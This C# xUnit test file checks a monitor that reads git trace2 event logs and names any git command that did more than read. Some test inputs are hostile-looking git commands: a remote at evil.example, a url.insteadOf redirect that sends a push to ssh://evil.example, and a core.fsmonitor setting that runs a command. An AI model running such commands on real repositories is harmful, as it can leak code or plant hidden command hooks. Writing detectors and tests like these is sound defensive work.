using System.Diagnostics;
using System.Text;
using Pawl.Changes;
using Pawl.Changes.Workspaces;
using Xunit;

namespace Pawl.Tests.Changes.Workspaces;

/// <summary>What somebody did with git, from what git wrote down, or from what they wrote in its place.</summary>
public sealed class GitEventsTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    [Theory]
    [InlineData("git push -q nowhere main", "tried to push: git push -q nowhere main")]
    [InlineData("git -c core.abbrev=8 commit -q --allow-empty -m 'two words'", "committed by itself: git commit -q --allow-empty -m two words")]
    [InlineData("git commit -q -m nothing", "tried to commit by itself: git commit -q -m nothing")]
    [InlineData("git checkout -q -b evil", "switched or made branches: git checkout -q -b evil")]
    [InlineData("git switch -q -c evil", "switched or made branches: git switch -q -c evil")]
    [InlineData("git branch evil", "switched or made branches: git branch evil")]
    [InlineData("git remote add evil https://evil.example", "changed the remotes: git remote add evil https://evil.example")]
    [InlineData("git config core.fsmonitor 'touch x'", "configured git: git config core.fsmonitor touch x")]
    [InlineData("git config --unset user.name", "configured git: git config --unset user.name")]
    [InlineData("git reset -q --hard", "reset what was there: git reset -q --hard")]
    [InlineData("git rebase -q HEAD", "rewrote or joined history: git rebase -q HEAD")]
    [InlineData("git merge -q HEAD", "rewrote or joined history: git merge -q HEAD")]
    [InlineData("echo x >> a.txt; git stash -q", "stashed: git stash -q")]
    [InlineData("git tag v1", "tagged: git tag v1")]
    [InlineData("git update-ref refs/heads/x HEAD", "changed refs by hand: git update-ref refs/heads/x HEAD")]
    [InlineData("git fetch -q nowhere", "tried to fetch: git fetch -q nowhere")]
    [InlineData("git worktree add -q ../other", "made other worktrees or submodules: git worktree add -q ../other")]
    [InlineData("git tag a; git tag b; git tag c", "tagged: git tag a, and 2 more such")]
    [InlineData("git push nowhere; git push -q nowhere", "tried to push: git push nowhere, and 1 more such")]
    [InlineData("GIT_SSH_COMMAND=false git push -q ssh://x.example/y main", "tried to push: git push -q ssh://x.example/y main")]
    [InlineData("GIT_SSH_COMMAND=false git pull -q me@x.example:y", "tried to fetch: git pull -q me@x.example:y")]
    [InlineData("GIT_SSH_COMMAND=false git -c url.ssh://evil.example/.insteadOf=https://github.com/ push -q https://github.com/x main", "tried to push: git push -q https://github.com/x main to ssh://evil.example/x")]
    [InlineData("git init -q ../of-a-test; cd ../of-a-test; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x; GIT_SSH_COMMAND=false git -c remote.o.url=x.example:y push -q o HEAD", "tried to push: git push -q o HEAD to x.example:y in FOLDER/of-a-test")]
    [InlineData("cd ..; git --git-dir=work/.git --work-tree=. tag v4; git --git-dir=\"$PWD/work/.git\" tag v5", "tagged: git tag v4, and 1 more such")]
    [InlineData("git -c alias.x='!git push -q nowhere' x", "tried to push: git push -q nowhere")]
    [InlineData("git -c alias.y='tag v2' y", "tagged: git tag v2")]
    [InlineData("cd src; git tag v3", "tagged: git tag v3")]
    [InlineData("git --git-dir=.git --work-tree=. tag v4", "tagged: git tag v4")]
    [InlineData("git -C ../others commit -q --allow-empty -m x", "committed by itself: git commit -q --allow-empty -m x in OTHERS")]
    public void Of_ACommandThatDoesMoreThanRead_SaysSoByName(string script, string note) => Assert.Equal([note], Told(script));

    [Theory]
    [InlineData("git status; git diff; git log; git show; git ls-files; git grep one; git rev-parse HEAD; git blame a.txt; git describe --always")]
    [InlineData("echo x >> a.txt; git add -A; git restore --staged a.txt; git checkout -- a.txt; git reset -q; git reset -q HEAD; git rm -q a.txt")]
    [InlineData("git branch; git branch -a; git branch --list 'x*'; git tag; git tag -l 'v*'; git remote -v; git stash list; git worktree list; git symbolic-ref HEAD; git reflog")]
    [InlineData("git config --get user.name; git config user.name; git config -l; git config --type bool core.bare; git config -f .git/config core.bare")]
    [InlineData("mkdir of-a-test; cd of-a-test; git init -q; git commit -q --allow-empty -m x; git tag v1")]
    [InlineData("git init -q ../of-a-test; cd ../of-a-test; git commit -q --allow-empty -m x; git tag v1")]
    [InlineData("git init -q ../of-a-test; cd ../of-a-test; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x; git remote add o ../bare; git push -q o HEAD:refs/heads/x; git push -q ../bare HEAD:refs/heads/y; git fetch -q o")]
    [InlineData("git init -q ../of-a-test; git --git-dir=../of-a-test/.git --work-tree=../of-a-test tag x; cd ../of-a-test; git --git-dir=.git --work-tree=. commit -q --allow-empty -m x")]
    [InlineData("unset GIT_TRACE2_EVENT; git tag v1")]
    public void Of_WhatOnlyReadsOrIsElsewhere_SaysNothing(string script) => Assert.Empty(Told(script));

    [Fact]
    public void Of_PushesToSeveralPlaces_TellsEachOneAndOtherMachinesFirst() => Assert.Equal(
        ["tried to push: git push -q ssh://x.example/y main, and 1 more such", "pushed: git push -q ../bare main", "tried to push: git push -q a, and to 2 more places"],
        Told("git push -q a; git push -q ../bare main; git push -q b; git push -q c; export GIT_SSH_COMMAND=false; git push -q ssh://x.example/y main; git push -q ssh://x.example/y HEAD"));

    [Fact]
    public void Of_AManyTimesRepeatedCommand_DoesNotHideWhereOneWent()
    {
        var flood = string.Concat(Enumerable.Range(0, 1000).Select(number => Line($"{number}", "push", $"/tmp/{number}") + Exit($"{number}", 0)));

        Assert.StartsWith("pushed: git push ssh://x.example/y", Deeds(flood + Line("a", "push", "ssh://x.example/y") + Exit("a", 0)).First(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(0, "pushed: git push ssh://x.example/y")]
    [InlineData(128, "tried to push: git push ssh://x.example/y")]
    [InlineData(null, "tried to push: git push ssh://x.example/y (how it ended is not known)")]
    public void Of_ACommand_IsDoneOnlyWhereItSaysSo(int? exitCode, string note) => Assert.Equal([note], Deeds(Line("a", "push", "ssh://x.example/y") + (exitCode is { } code ? Exit("a", code) : "")));

    // Whoever runs git may write any event: what is no path, no text or no number is as if it were not there.
    [Fact]
    public void Of_EveryHostileValueInEveryPlace_IsHarmless()
    {
        string[] values =
        [
            "\"\"", "\"/\"", "\"relative\"", "\"x\\u0000y\"", "\"/a\\u0000b\"", "\"--git-dir\"", "\"--git-dir=\"", "\"--git-dir=x\"", "\"--git-dir=x\\u0000y\"", "\"../../..\"", "\"\\ud800\"", "\":\"", "\"://\"",
            "\"'\"", "\"-\"", "null", "1", "1e400", "[]", "{}", "true", $"\"/{new string('a', 6_000)}\"",
        ];
        var at = 0;
        var text = string.Concat(
            from name in (string[])["push", "fetch", "commit", "config", "checkout", "stash", "-"]
            from worktree in values
            from argument in values
            let id = $"{at++}"
            select $$"""
                {"event":"start","sid":"{{id}}","argv":["git",{{argument}},"{{name}}",{{argument}},{{worktree}}]}
                {"event":"def_repo","sid":"{{id}}","worktree":{{worktree}}}
                {"event":"cmd_name","sid":"{{id}}","name":"{{name}}","hierarchy":"{{name}}"}
                {"event":"cmd_mode","sid":"{{id}}","name":{{argument}}}
                {"event":"child_start","sid":"{{id}}/{{id}}","child_class":"transport/ssh","argv":[{{argument}},{{worktree}}]}
                {"event":"child_start","sid":"{{id}}","child_class":{{worktree}},"argv":{{argument}}}
                {"event":"exit","sid":"{{id}}","code":{{argument}}}

                """);

        var notes = Deeds(text);

        Assert.NotEmpty(notes);
        Assert.All(notes, note => Assert.DoesNotContain('\0', note));
    }

    [Fact]
    public void Of_LinesWithAnyByteChanged_IsHarmless()
    {
        var random = new Random(20261121);
        var line = Encoding.UTF8.GetBytes(
            """{"event":"start","sid":"1","argv":["git","--git-dir=/x","push","a:b"]}""" + "\n" + """{"event":"def_repo","sid":"1","worktree":"/tmp/x"}""" + "\n" + Named("1", "push")
            + """{"event":"child_start","sid":"1","child_class":"transport/ssh","argv":["ssh","x.example","git-receive-pack 'y'"]}""" + "\n" + Exit("1", 0));
        byte[] likely = [0, (byte)'"', (byte)'\\', (byte)'{', (byte)'[', (byte)'\n', (byte)'/', (byte)'-', 0x80, 0xFF];
        for (var round = 0; round < 500; round++)
        {
            var changed = line.ToArray();
            for (var change = 0; change < 3; change++) changed[random.Next(changed.Length)] = likely[random.Next(likely.Length)];
            File.WriteAllBytes(_folder["events"], changed);
            Assert.InRange(Deeds(null).Count, 0, 1);
        }
    }

    [Fact]
    public void Read_AFileThatBeginsAsItWasLeft_IsWhole()
    {
        GitEvents.Begin(_folder["events"]);
        Assert.True(GitEvents.Read(_folder["events"]).IsWhole);
        File.AppendAllText(_folder["events"], Named("a", "push"));
        Assert.True(GitEvents.Read(_folder["events"]).IsWhole);
        Assert.False(Read(Named("a", "push")).IsWhole);
        Assert.False(Read("").IsWhole);
        Assert.False(GitEvents.Read(_folder["nothing"]).IsWhole);
    }

    [Fact]
    public void Of_ALongCommand_IsCleanedBeforeItIsCut()
    {
        var notes = Told($"git tag -m '{new string('x', 98)} secret-of-many-letters' v1", text => text.Replace("secret-of-many-letters", "[redacted]", StringComparison.Ordinal));

        Assert.Equal([$"tagged: git tag -m {new string('x', 98)} [redacted]…"], notes);
    }

    [Theory]
    [InlineData("")]
    [InlineData("no JSON\n{\"event\":\"start\"\n{\"event\":\"start\"}\n{\"event\":\"start\",\"sid\":1}\n[]\n{\"event\":\"cmd_name\",\"sid\":\"a\",\"name\":[],\"hierarchy\":{}}\n")]
    [InlineData("{\"event\":\"exit\",\"sid\":\"a\",\"code\":\"x\"}\n{\"event\":\"exit\",\"sid\":\"a\",\"code\":1e99}\n{\"event\":\"def_repo\",\"sid\":\"a\",\"worktree\":{}}\n{\"event\":\"start\",\"sid\":\"a\",\"argv\":\"x\"}")]
    [InlineData("{\"event\":\"cmd_name\",\"sid\":\"a\",\"name\":\"_run_dashed_\",\"hierarchy\":\"_run_dashed_\"}")]
    public void Read_WhatGitDidNotWrite_FindsNothing(string text) => Assert.Empty(Read(text).Commands);

    [Fact]
    public void Read_ACommandWhoseArgumentsAreNoText_IsNamedAllTheSame()
    {
        byte[] line = [.. "{\"event\":\"start\",\"sid\":\"a\",\"argv\":[\"git\",\"push\",\""u8, 0xFF, .. "\"]}\n{\"event\":\"cmd_name\",\"sid\":\"a\",\"name\":\"push\",\"hierarchy\":\"push\"}\n"u8];
        File.WriteAllBytes(_folder["events"], line);

        Assert.Equal("push", Assert.Single(GitEvents.Read(_folder["events"]).Commands).Name);
    }

    [Fact]
    public void Read_WithoutAFileOrWithAPipeInItsPlace_FindsNothing()
    {
        Assert.Empty(GitEvents.Read(_folder["nothing"]).Commands);
        Assert.Equal(0, UserFolder.Run("mkfifo", _folder.Path, "pipe").ExitCode);
        Assert.Empty(GitEvents.Read(_folder["pipe"]).Commands);
        File.CreateSymbolicLink(_folder["link"], "/dev/zero");
        Assert.Empty(GitEvents.Read(_folder["link"]).Commands);
    }

    [Fact]
    public void Read_MoreThanIsRead_SaysSo()
    {
        Assert.False(Read(Named("a", "push")).IsCut);
        Assert.True(Read(string.Concat(Enumerable.Range(0, 20_001).Select(number => Named($"{number}", "push")))).IsCut);
        Assert.True(Read(Named("a", "push") + new string('x', 16 * 1024 * 1024)).IsCut);
        Assert.Equal(["push"], Read(Named("a", "push") + new string('x', 16 * 1024 * 1024)).Commands.Select(command => command.Name));
    }

    public void Dispose() => _folder.Dispose();

    private static string Named(string id, string name) => $$"""{"event":"cmd_name","sid":"{{id}}","name":"{{name}}","hierarchy":"{{name}}"}""" + "\n";

    private static string Line(string id, string name, string argument) => $$"""{"event":"start","sid":"{{id}}","argv":["git","{{name}}","{{argument}}"]}""" + "\n" + $$"""{"event":"def_repo","sid":"{{id}}","worktree":"/work"}""" + "\n" + Named(id, name);

    private static string Exit(string id, int code) => $$"""{"event":"exit","sid":"{{id}}","code":{{code}}}""" + "\n";

    // In a checkout at /work; what stands in the file where no text is given.
    private List<string> Deeds(string? text) => [.. new GitDeeds("/work", ["/others"], PlainText.Of).Of((text is null ? GitEvents.Read(_folder["events"]) : Read(text)).Commands)];

    private GitEvents Read(string text)
    {
        File.WriteAllText(_folder["events"], text);
        return GitEvents.Read(_folder["events"]);
    }

    // A real git, which writes its events down.
    private List<string> Told(string script, Func<string, string>? clean = null)
    {
        _folder.Write("work/a.txt", "one\n");
        _folder.Write("work/src/b.txt", "two\n");
        foreach (var repository in (string[])["work", "others"])
        {
            Directory.CreateDirectory(_folder[repository]);
            UserFolder.GitIn(_folder[repository], "init", "-q", "-b", "main");
            UserFolder.GitIn(_folder[repository], "config", "user.name", "x");
            UserFolder.GitIn(_folder[repository], "config", "user.email", "x@example.com");
            UserFolder.GitIn(_folder[repository], "add", "-A");
            UserFolder.GitIn(_folder[repository], "commit", "-q", "--allow-empty", "-m", "first");
        }

        UserFolder.GitIn(_folder.Path, "init", "-q", "--bare", "bare");
        var start = new ProcessStartInfo("sh", ["-c", script]) { WorkingDirectory = _folder["work"], RedirectStandardError = true, RedirectStandardOutput = true };
        start.Environment[GitEvents.Variable] = _folder["events"];
        start.Environment["GIT_CONFIG_GLOBAL"] = "/dev/null";
        using var process = Process.Start(start)!;
        var error = process.StandardError.ReadToEndAsync();
        process.StandardOutput.ReadToEnd();
        process.WaitForExit();
        error.Wait(TestContext.Current.CancellationToken);
        return [.. new GitDeeds(_folder["work"], [_folder["others"]], clean ?? (text => text.Replace(_folder["others"], "OTHERS", StringComparison.Ordinal).Replace(_folder.Path, "FOLDER", StringComparison.Ordinal))).Of(GitEvents.Read(_folder["events"]).Commands)];
    }
}
